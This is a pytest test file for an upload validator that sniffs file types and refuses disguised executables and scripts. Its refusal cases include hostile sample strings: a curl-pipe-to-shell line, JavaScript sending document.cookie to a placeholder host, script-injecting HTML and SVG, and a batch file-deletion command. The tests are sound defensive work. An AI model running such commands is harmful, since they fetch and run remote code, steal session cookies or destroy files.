"""Type sniffing and the evidence allow-list."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from app.errors import UnsupportedMediaType
from app.workflows.evidence_media import check_allowed, sniff


def jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 200, 30)).save(buf, "JPEG")
    return buf.getvalue()


def ftyp(brand: bytes, compatible: bytes) -> bytes:
    body = brand + b"\x00\x00\x02\x00" + compatible + brand
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00\x00\x00\x08free" + bytes(100)


def ebml(doctype: bytes) -> bytes:
    inner = b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(inner)]) + inner + bytes(100)


def docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        z.writestr("_rels/.rels", "<Relationships/>" + " " * 1500)
        z.writestr("word/document.xml", "<w:document/>" + " " * 3000)
    return buf.getvalue()


ACCEPTED = [
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "statement.pdf", "application/pdf"),
    (jpeg(), "IMG_0001.jpg", "image/jpeg"),
    (docx(), "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (b"name,date\nA,2024-01-01\nB,2024-01-02\n", "list.csv", "text/csv"),
    ("Свидетельство: 12 марта\n".encode(), "notes.txt", "text/plain"),
    (ftyp(b"isom", b"mp41"), "clip.mp4", "video/mp4"),
    (ftyp(b"qt  ", b"qt  "), "clip.mov", "video/quicktime"),
    (ftyp(b"M4A ", b"mp42"), "voice.m4a", "audio/x-m4a"),
    (ftyp(b"heic", b"mif1"), "IMG_1.heic", "image/heic"),
    (ebml(b"webm"), "clip.webm", "video/webm"),
    (ebml(b"matroska"), "clip.mkv", "video/x-matroska"),
    (b"RIFF\x00\x01\x00\x00AVI LIST" + bytes(100), "clip.avi", "video/x-msvideo"),
    (b"fLaC\x00\x00\x00\x22" + bytes(100), "a.flac", "audio/flac"),
    (b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 100, "a.mp3", "audio/mpeg"),
    (b"From: a@example.org\nTo: b@example.org\nSubject: hi\n\nbody\n", "mail.eml", "message/rfc822"),
]


@pytest.mark.parametrize(("data", "name", "expected"), ACCEPTED, ids=[a[1] for a in ACCEPTED])
def test_accepted_types(data, name, expected):
    assert sniff(data, name) == expected
    check_allowed(expected)


REFUSED = [
    (Path("/bin/ls").read_bytes()[:65536], "evidence.pdf"),  # an ELF renamed .pdf
    (b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\x00\x00\x4c\x01" + bytes(200), "photo.jpg"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + bytes(100), "scan.png"),
    (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "page.txt"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "map.png"),
    (b'<?xml version="1.0"?><data/>', "data.xml"),
    (b"#!/bin/sh\ncurl http://x | sh\n", "notes.txt"),
    (b"#!/usr/bin/env python3\nimport os\n", "notes.txt"),
    (b'var x = document.cookie;\nfetch("http://x/?" + x);\n', "readme.js"),
    (b"@echo off\r\ndel /q *\r\n", "list.txt"),
]


@pytest.mark.parametrize(("data", "name"), REFUSED, ids=[r[1] + str(i) for i, r in enumerate(REFUSED)])
def test_refused_types_name_what_was_detected(data, name):
    detected = sniff(data, name)
    with pytest.raises(UnsupportedMediaType) as caught:
        check_allowed(detected)
    assert caught.value.status_code == 415
    assert detected in caught.value.detail


def test_elf_renamed_pdf_is_refused_as_an_executable():
    detected = sniff(Path("/bin/ls").read_bytes()[:65536], "evidence.pdf")
    assert detected in {"application/x-sharedlib", "application/x-pie-executable", "application/x-executable"}
    with pytest.raises(UnsupportedMediaType, match="executable"):
        check_allowed(detected)


def test_plain_zip_is_refused_even_named_docx():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.exe", b"MZ" + bytes(4000))
    for name in ("archive.zip", "report.docx"):
        detected = sniff(buf.getvalue(), name)
        assert detected == "application/zip"
        with pytest.raises(UnsupportedMediaType, match="archive"):
            check_allowed(detected)
